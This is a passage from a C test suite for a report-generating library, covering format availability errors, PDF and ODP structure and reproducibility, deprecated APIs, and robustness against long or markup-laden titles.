  g_assert_cmpint (pdz_report_format_is_available (PDZ_REPORT_FORMAT_PDF), ==, PDZ_HAVE_PDF);
  g_assert_cmpint (pdz_report_format_is_available (PDZ_REPORT_FORMAT_ODP), ==, PDZ_HAVE_ODF);

  for (PdzReportFormat f = PDZ_REPORT_FORMAT_HTML; f < PDZ_N_REPORT_FORMATS; f++)
    {
      g_autoptr(PdzReport) report = new_report (plan, f, NULL);
      g_autoptr(PdzReport) planless = g_object_new (PDZ_TYPE_REPORT, NULL);
      g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
      g_autofree char *path = g_build_filename (dir, "r.out", NULL);
      g_autofree char *expected = g_strdup_printf ("this build of libpdz has no %s writer (", names[f]);
      g_autoptr(GBytes) bytes = NULL;
      g_auto(GStrv) files = NULL;

      g_assert_cmpint (pdz_report_get_format (report), ==, f);
      if (pdz_report_format_is_available (f))
        continue;

      bytes = pdz_report_to_bytes (report, NULL, &error);
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_UNSUPPORTED);
      g_assert_true (g_str_has_prefix (error->message, expected));
      g_assert_nonnull (strstr (error->message, "; it writes html, markdown, csv"));
      g_assert_null (bytes);
      g_clear_error (&error);

      files = pdz_report_dup_output_files (report, path);
      g_assert_null (files);

      g_assert_false (pdz_report_write_path (report, path, NULL, &error));
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_UNSUPPORTED);
      g_clear_error (&error);
      g_assert_false (g_file_test (path, G_FILE_TEST_EXISTS));

      g_assert_false (pdz_report_write_to_stream (report, stream, NULL, &error));
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_UNSUPPORTED);
      g_clear_error (&error);
      g_assert_cmpuint (g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (stream)), ==, 0);

      /* before anything else: even a report with no plan says so */
      pdz_report_set_format (planless, f);
      bytes = pdz_report_to_bytes (planless, NULL, &error);
      g_assert_error (error, PDZ_ERROR, PDZ_ERROR_UNSUPPORTED);
      g_assert_null (bytes);
      g_clear_error (&error);
    }

  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* Whether @needle occurs in @bytes (which may hold NULs) */
static gboolean
bytes_contain (GBytes     *bytes,
               const char *needle)
{
  gsize length, n = strlen (needle);
  const char *data = g_bytes_get_data (bytes, &length);

  for (gsize i = 0; i + n <= length; i++)
    if (data[i] == needle[0] && memcmp (data + i, needle, n) == 0)
      return TRUE;
  return FALSE;
}

/* The PDF: a tagged A4 document with an outline and a title, the same
 * bytes for the same plan and date, in both languages; hostile text
 * (markup, controls, a 5,000-character title, a word of 300) renders. The
 * text inside is checked with pdftotext by tests/test-report-paged.py. */
static void
test_pdf (void)
{
  /* each plan in one language, the example in both: a rendering takes
   * some seconds under valgrind */
  static const char * const plans[] = { "example", "example", "injection.json", "xml-chars.json", "long" };
  static const char * const languages[] = { "it", "en", "en", "it", "it" };

  G_STATIC_ASSERT (G_N_ELEMENTS (plans) == G_N_ELEMENTS (languages));

  if (!pdz_report_format_is_available (PDZ_REPORT_FORMAT_PDF))
    {
      g_test_skip ("this build has no PDF writer (-Dpdf=disabled)");
      return;
    }

  for (guint p = 0; p < G_N_ELEMENTS (plans); p++)
    {
      g_autoptr(PdzPlan) plan = NULL;

      if (p < 2)
        plan = pdz_test_load_example ();
      else if (p < 4)
        plan = pdz_test_load_test_data (plans[p], NULL);
      else
        {
          g_autoptr(GString) title = g_string_new (NULL);
          g_autoptr(PdzObjective) objective = NULL;
          g_autoptr(GString) word = g_string_new (NULL);

          plan = pdz_test_load_example ();
          while (title->len < 5000)
            g_string_append (title, "Attivazione del servizio <b>di</b> assistenza &amp; domiciliare\t\x01 ");
          g_string_truncate (title, 5000);
          while (word->len < 300)
            g_string_append (word, "Coprogettazione");
          g_string_truncate (word, 300);
          pdz_plan_set_title (plan, title->str);
          objective = g_list_model_get_item (pdz_plan_get_objectives (plan), 0);
          pdz_objective_set_title (objective, word->str);
          pdz_objective_set_description (objective, title->str);
        }

      {
        g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_PDF, languages[p]);
        g_autoptr(GError) error = NULL;
        g_autoptr(GBytes) first = NULL;
        g_autoptr(GBytes) second = NULL;
        gsize length;
        const char *data;

        pdz_report_set_include_diagnostics (report, TRUE);
        first = pdz_report_to_bytes (report, NULL, &error);
        g_assert_no_error (error);
        data = g_bytes_get_data (first, &length);
        g_assert_cmpuint (length, >, 1000);
        g_assert_cmpmem (data, 8, "%PDF-1.5", 8);
        g_assert_cmpmem (data + length - 6, 6, "%%EOF\n", 6);
        g_assert_true (bytes_contain (first, "/StructTreeRoot"));
        g_assert_true (bytes_contain (first, "/MarkInfo"));
        g_assert_true (bytes_contain (first, "/Outlines"));
        g_assert_true (bytes_contain (first, "/Title"));
        g_assert_true (bytes_contain (first, "/MediaBox [ 0 0 595.2756 841.8898 ]"));
        /* the report's date, not the clock's */
        g_assert_true (bytes_contain (first, "/CreationDate (20231114120000Z)"));

        if (p == 0 || p == 4)
          {
            second = pdz_report_to_bytes (report, NULL, &error);
            g_assert_no_error (error);
            g_assert_true (g_bytes_equal (first, second));
          }
      }
    }
}

/* The ODP deck: an OpenDocument package (mimetype first, stored) whose
 * XML parses, with a slide per objective and more, the same bytes for the
 * same plan and date (its zip entries are dated as the report), in both
 * languages; hostile text renders. python3-odf, Pango and LibreOffice read
 * it in tests/test-report-paged.py. */
static void
test_odp (void)
{
  static const char * const languages[] = { "it", "en" };
  static const char * const plans[] = { "example", "injection.json", "xml-chars.json" };
  static const char mimetype[] = "application/vnd.oasis.opendocument.presentation";

  if (!pdz_report_format_is_available (PDZ_REPORT_FORMAT_ODP))
    {
      g_test_skip ("this build has no ODP writer (-Dodf=disabled)");
      return;
    }

  for (guint p = 0; p < G_N_ELEMENTS (plans); p++)
    {
      g_autoptr(PdzPlan) plan = p == 0 ? pdz_test_load_example () : pdz_test_load_test_data (plans[p], NULL);

      for (guint l = 0; l < G_N_ELEMENTS (languages); l++)
        {
          g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_ODP, languages[l]);
          g_autoptr(GError) error = NULL;
          g_autoptr(GBytes) first = pdz_report_to_bytes (report, NULL, &error);
          g_autoptr(GBytes) second = NULL;
          g_autoptr(PdzZip) zip = NULL;
          PdzZipStatus status;
          gsize length;
          const guint8 *data;

          g_assert_no_error (error);
          data = g_bytes_get_data (first, &length);
          /* the local header of "mimetype", stored (method 0), then its text */
          g_assert_cmpmem (data, 4, "PK\x03\x04", 4);
          g_assert_cmpint (data[8] | data[9] << 8, ==, 0);
          g_assert_cmpmem (data + 30, 8, "mimetype", 8);
          g_assert_cmpmem (data + 38, strlen (mimetype), mimetype, strlen (mimetype));

          zip = _pdz_zip_open (data, length, &status);
          g_assert_cmpint (status, ==, PDZ_ZIP_OK);
          for (guint e = 0; e < 4; e++)
            {
              static const char * const entries[] = {
                "content.xml", "styles.xml", "meta.xml", "META-INF/manifest.xml",
              };
              static const GMarkupParser parser = { NULL, };
              g_autoptr(GBytes) xml = _pdz_zip_read (zip, entries[e], &status);
              g_autoptr(GMarkupParseContext) context = g_markup_parse_context_new (&parser, 0, NULL, NULL);
              gsize xml_length;
              const char *text;

              g_assert_cmpint (status, ==, PDZ_ZIP_OK);
              text = g_bytes_get_data (xml, &xml_length);
              g_assert_true (g_markup_parse_context_parse (context, text, (gssize) xml_length, &error));
              g_assert_true (g_markup_parse_context_end_parse (context, &error));
              g_assert_no_error (error);
              if (e == 0 && p == 0)
                {
                  guint slides = 0;

                  for (const char *at = text; (at = strstr (at, "<draw:page ")) != NULL; at++)
                    slides++;
                  /* a cover, the summary, 11 objectives, the ASST, the
                   * sovra-ambito projects, the key figures, the contacts */
                  g_assert_cmpuint (slides, >=, 17);
                  g_assert_nonnull (strstr (text, "<presentation:notes"));
                }
            }

          second = pdz_report_to_bytes (report, NULL, &error);
          g_assert_no_error (error);
          g_assert_true (g_bytes_equal (first, second));
        }
    }
}

/* The names of 0.1, kept as deprecated wrappers through 0.x */
static void
test_deprecated_get_output_files (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_CSV, NULL);
  g_auto(GStrv) files = NULL;
  g_auto(GStrv) dup = pdz_report_dup_output_files (report, "out/tables");

  G_GNUC_BEGIN_IGNORE_DEPRECATIONS
  files = pdz_report_get_output_files (report, "out/tables");
  G_GNUC_END_IGNORE_DEPRECATIONS

  g_assert_cmpuint (g_strv_length (files), ==, 5);
  g_assert_true (g_strv_equal ((const char * const *) files, (const char * const *) dup));
}

static void
test_deprecated_write_to_file (void)
{
  g_autoptr(PdzPlan) plan = load_injection ();
  g_autoptr(PdzReport) report = new_report (plan, PDZ_REPORT_FORMAT_HTML, NULL);
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = g_dir_make_tmp ("pdz-test-files-XXXXXX", &error);
  g_autofree char *path = g_build_filename (dir, "r.html", NULL);
  g_autofree char *nowhere = g_build_filename (dir, "missing", "r.html", NULL);
  g_autoptr(GBytes) bytes = pdz_report_to_bytes (report, NULL, &error);
  g_autofree char *contents = NULL;
  gsize length;
  gboolean written, refused;

  g_assert_no_error (error);

  G_GNUC_BEGIN_IGNORE_DEPRECATIONS
  written = pdz_report_write_to_file (report, path, NULL, &error);
  g_assert_no_error (error);
  refused = !pdz_report_write_to_file (report, nowhere, NULL, &error);
  G_GNUC_END_IGNORE_DEPRECATIONS

  g_assert_true (written);
  g_assert_true (refused);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_FOUND);
  assert_names_file (error, nowhere);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_cmpmem (contents, length, g_bytes_get_data (bytes, NULL), g_bytes_get_size (bytes));
  pdz_test_remove_tree (dir);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/pdz/report/catalogs/complete", test_catalogs_complete);
  g_test_add_func ("/pdz/report/properties", test_properties);
  g_test_add_func ("/pdz/report/language/default", test_language_default);
  g_test_add_func ("/pdz/report/language/purity", test_language_purity);
  g_test_add_func ("/pdz/report/language/locale", test_language_locale);
  g_test_add_func ("/pdz/report/html/example", test_html_example);
  g_test_add_func ("/pdz/report/html/sections", test_html_sections);
  g_test_add_func ("/pdz/report/html/injection", test_injection_html);
  g_test_add_func ("/pdz/report/markdown/example", test_markdown_example);
  g_test_add_func ("/pdz/report/markdown/files", test_markdown_files);
  g_test_add_func ("/pdz/report/markdown/injection", test_injection_markdown);
  g_test_add_func ("/pdz/report/markdown/list-markers", test_markdown_list_markers);
  g_test_add_func ("/pdz/report/indicator/out-of-range", test_indicator_values_out_of_range);
  g_test_add_func ("/pdz/report/csv/tables", test_csv_tables);
  g_test_add_func ("/pdz/report/csv/directory", test_csv_directory);
  g_test_add_func ("/pdz/report/csv/injection", test_injection_csv);
  g_test_add_func ("/pdz/report/xlsx/reproducible", test_xlsx);
  g_test_add_func ("/pdz/report/pdf", test_pdf);
  g_test_add_func ("/pdz/report/odp", test_odp);
  g_test_add_func ("/pdz/report/stream", test_stream);
  g_test_add_func ("/pdz/report/source-date-epoch", test_source_date_epoch);
  g_test_add_func ("/pdz/report/format/amounts", test_amounts);
  g_test_add_func ("/pdz/report/format/urls", test_url_safety);
  g_test_add_func ("/pdz/report/source-date-epoch/range", test_source_date_epoch_range);
  g_test_add_func ("/pdz/report/generated/range", test_generated_range);
  g_test_add_func ("/pdz/report/funding/overflow", test_funding_overflow);
  g_test_add_func ("/pdz/report/null-texts", test_null_texts);
  g_test_add_func ("/pdz/report/timeline/wide", test_timeline_wide);
  g_test_add_func ("/pdz/report/timeline/rules", test_timeline_rules);
  g_test_add_func ("/pdz/report/query/property", test_query_property);
  g_test_add_func ("/pdz/report/query/subset", test_query_subset);
  g_test_add_func ("/pdz/report/xml-chars", test_xml_chars);
  g_test_add_func ("/pdz/report/xlsx/sheet-names", test_sheet_names);
  g_test_add_func ("/pdz/report/language/rule", test_language_rule);
  g_test_add_func ("/pdz/report/language/checks", test_language_agrees_with_checks);
  g_test_add_func ("/pdz/report/write/missing-directory", test_write_missing_directory);
  g_test_add_func ("/pdz/report/write/refused", test_write_refused);
  g_test_add_func ("/pdz/report/write/gfile", test_write_gfile);
  g_test_add_func ("/pdz/report/formats/available", test_formats_available);
  g_test_add_func ("/pdz/report/deprecated/get-output-files", test_deprecated_get_output_files);
  g_test_add_func ("/pdz/report/deprecated/write-to-file", test_deprecated_write_to_file);

  return g_test_run ();
}
